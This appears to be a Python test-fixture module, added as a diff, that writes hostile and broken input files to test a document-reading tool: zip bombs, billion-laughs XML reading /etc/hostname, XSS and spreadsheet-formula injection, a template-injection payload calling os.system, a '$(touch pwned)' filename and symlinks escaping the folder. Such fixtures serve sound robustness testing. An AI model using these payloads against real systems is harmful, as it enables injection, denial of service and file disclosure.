@@ -1,0 +1,138 @@
+"""Hostile and broken files: what each is, and what must be said of it.
+
+``write_hostile`` fills a folder with all of them; the huge ones only where they are asked for.
+"""
+
+from __future__ import annotations
+
+import os
+from dataclasses import dataclass
+from pathlib import Path
+
+from awkward_documents import make_docx, pack
+from awkward_pdf import make_pdf, picture, text
+
+GOOD = (
+    "Rest at night\n\nMagnesium may help people sleep. Many experts recommend it, and one trial of "
+    "46 older adults found that sleep came a little sooner [1].\n\nReferences\n\n1. Roe J. Rest. "
+    "J Calm 2012;3:1-9.\n"
+)
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
+SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)><style>body{display:none}</style>'
+ANSI = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J"
+TEMPLATE = "{{ cycler.__init__.__globals__.os.system('touch pwned') }} {% for x in y %} ${7*7} `id`"
+BILLION = (
+    '<?xml version="1.0"?><!DOCTYPE article [<!ENTITY a "lol lol lol lol lol lol lol lol ">'
+    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(8))
+    + '<!ENTITY x SYSTEM "file:///etc/hostname">]>'
+)
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A file: its name, its bytes, and a word of the note, "" where it must be read."""
+
+    name: str
+    data: bytes
+    says: str = ""
+
+
+def _words(n: int) -> str:
+    return " ".join(["Sleep is good for people who rest."] * n)
+
+
+def _page(body: str) -> bytes:
+    return f"<html><body><article>{body}<p>{_words(6)}</p></article></body></html>".encode()
+
+
+def _bomb(document: str) -> bytes:
+    """An archive of some kilobytes that unpacks to 200 million bytes."""
+    filler = "A" * 1_000_000
+    return pack({document: "x", **{f"part{i}": filler for i in range(200)}})
+
+
+FILES = (
+    Hostile("empty.txt", b"", "empty"),
+    Hostile("whitespace.txt", b" \n\t\n \r\n", "white space"),
+    Hostile("one_word.txt", b"Sleep"),
+    Hostile("binary.txt", bytes(range(256)) * 20, "binary"),
+    Hostile("picture.txt", b"\x89PNG\r\n\x1a\n" + bytes(200), "image"),
+    Hostile("truncated.txt", (GOOD + "caf\u00e9 \u201cquoted\u201d ").encode()[:-2]),
+    Hostile("utf16.txt", GOOD.encode("utf-16-le")),
+    Hostile("mixed_encodings.txt", GOOD.encode() + "caf\u00e9 na\u00efve \u20ac5".encode("cp1252") + " na\u00efve \u201cquotes\u201d caf\u00e9".encode()),
+    Hostile("nul.txt", GOOD.replace("help", "he\0lp").encode()),
+    Hostile("many_headings.txt", b"# Heading\n\n" * 60_000, "sentences"),
+    Hostile("deep.html", b"<div>" * 100_000 + b"x", "no running text"),
+    Hostile("deep_lists.html", _page("<ul><li>a" * 3_000)),
+    Hostile("entities.xml", (BILLION + "<article><body><p>&i; &x;</p></body></article>").encode(), "damaged"),
+    Hostile("entities.xhtml", (BILLION + f"<html><body><p>&i; &x; {_words(9)}</p></body></html>").encode()),
+    Hostile("other.xml", b"<?xml version='1.0'?><urlset><url/></urlset>", "no JATS article"),
+    Hostile("broken.xml", b"<article><body><p>Rest", "damaged"),
+    Hostile("bomb.docx", _bomb("word/document.xml"), "unpacks to"),
+    Hostile("bomb.epub", _bomb("book.opf"), "unpacks to"),
+    Hostile("no_archive.docx", b"PK\x03\x04 broken", "damaged"),
+    Hostile("old_office.docx", b"\xd0\xcf\x11\xe0" + bytes(600), "password or of an old Office"),
+    Hostile("not_a_book.epub", pack({"a.txt": "x"}), "damaged"),
+    Hostile("encrypted.pdf", make_pdf([text(60, 700, _words(3))], password="secret"), "password"),
+    Hostile("scan.pdf", make_pdf([picture()]), "scan"),
+    Hostile("script.pdf", make_pdf([text(60, 700, _words(2))], script="app.alert(1)")),
+    Hostile("broken.pdf", make_pdf([text(60, 700, _words(2))])[:300], "damaged"),
+    Hostile("no_pages.pdf", b"%PDF-1.4\ntrailer\n<<>>\n%%EOF", "damaged"),
+    Hostile("broken.rtf", b"{\\rtf1 " + b"{" * 50_000, "damaged"),
+    Hostile("fake.rtf", b"no rich text at all"),
+    Hostile("script.html", _page(f"<h1>{SCRIPT}Rest</h1><p onclick='x()'>{SCRIPT} {_words(3)}</p>")),
+    Hostile("injection.txt", f"{FORMULA}\n\n{GOOD}\n{SCRIPT}\n{TEMPLATE}\n".encode()),
+    Hostile("formula.md", f"# {FORMULA}\n\n+1+cmd|' /C calc'!A0 may help people sleep well.\n\n@SUM(1) may help.\n\n-2+3 may help.\n".encode()),
+    Hostile("ansi.txt", f"{ANSI}\n\n{ANSI} {GOOD}".encode()),
+    Hostile("right_to_left.txt", f"\u202egnp.exe\u202c may help \u2067people\u2069 sleep. {_words(3)}".encode()),
+    Hostile("german.txt", ("Viele Menschen schlafen schlecht und suchen nach Hilfe im Netz. " * 8).encode()),
+    Hostile("mixed_languages.txt", (_words(8) + " Beaucoup de gens dorment mal la nuit. " * 6).encode()),
+    Hostile("long_word.txt", b"a" * 300_000),
+    Hostile("backtracking.txt", ("may " * 20_000 + "(" * 5_000 + "," * 5_000 + " 1,2," * 5_000).encode()),
+    Hostile("brackets.md", b"[" * 5_000 + b"x" + b"*a **b " * 1_000),
+    Hostile("duplicate_a.txt", (GOOD + "The same again.").encode()),
+    Hostile("duplicate_b.txt", (GOOD + "The same again.").encode()),
+    Hostile("line\nbreak.txt", GOOD.encode()),
+    Hostile("quotes'\".txt", GOOD.encode()),
+    Hostile("-dash.txt", GOOD.encode()),
+    Hostile("--config.txt", GOOD.encode()),
+    Hostile("\u263a\U0001f634.txt", GOOD.encode()),
+    Hostile("\u202etxt.exe.txt", GOOD.encode()),
+    Hostile("\x1b[31mred.txt", GOOD.encode()),
+    Hostile("=1+1.txt", GOOD.encode()),
+    Hostile("<b>bold.txt", GOOD.encode()),
+    Hostile("{{ 7*7 }}.txt", GOOD.encode()),
+    Hostile("a b.txt", GOOD.encode()),
+    Hostile("a-b.txt", GOOD.encode()),
+    Hostile("A+B.txt", GOOD.encode()),
+    Hostile("$(touch pwned).txt", GOOD.encode()),
+    Hostile("{batch}.txt", GOOD.encode()),
+    Hostile(f"{'long' * 55}.txt", GOOD.encode()),
+    Hostile("plain.docx", make_docx(f"<w:p><w:r><w:t>{_words(3)}</w:t></w:r></w:p>")),
+)  # fmt: skip
+
+HUGE = (
+    Hostile("long_line.txt", b"Sleep is good for all. " * 9_000_000, "too large"),
+    Hostile("million_headings.html", b"<h1>Heading</h1>" * 1_000_000, "limits."),
+    Hostile("million_headings.md", b"# Heading\n\n" * 1_000_000, "limits."),
+)
+
+
+def write_hostile(folder: Path, huge: bool = False) -> list[Hostile]:
+    """Write the files, and what is no file, into a folder; return what was written."""
+    folder.mkdir(parents=True, exist_ok=True)
+    files = [*FILES, *(HUGE if huge else ())]
+    for hostile in files:
+        (folder / hostile.name).write_bytes(hostile.data)
+    outside = folder.parent / "outside.txt"
+    outside.write_text("A secret that must not be read.")
+    (folder / "outside.txt").symlink_to(outside)
+    (folder / "up").symlink_to("..", target_is_directory=True)
+    (folder / "circle.txt").symlink_to("circle.txt")
+    (folder / "device.txt").symlink_to("/dev/zero")
+    os.mkfifo(folder / "pipe.txt")
+    (folder / "unreadable.txt").write_text(GOOD)
+    (folder / "unreadable.txt").chmod(0)
+    with open(os.fsencode(folder) + b"/not_utf8_\xff\xfe.txt", "wb") as file:
+        file.write(GOOD.encode())
+    return files
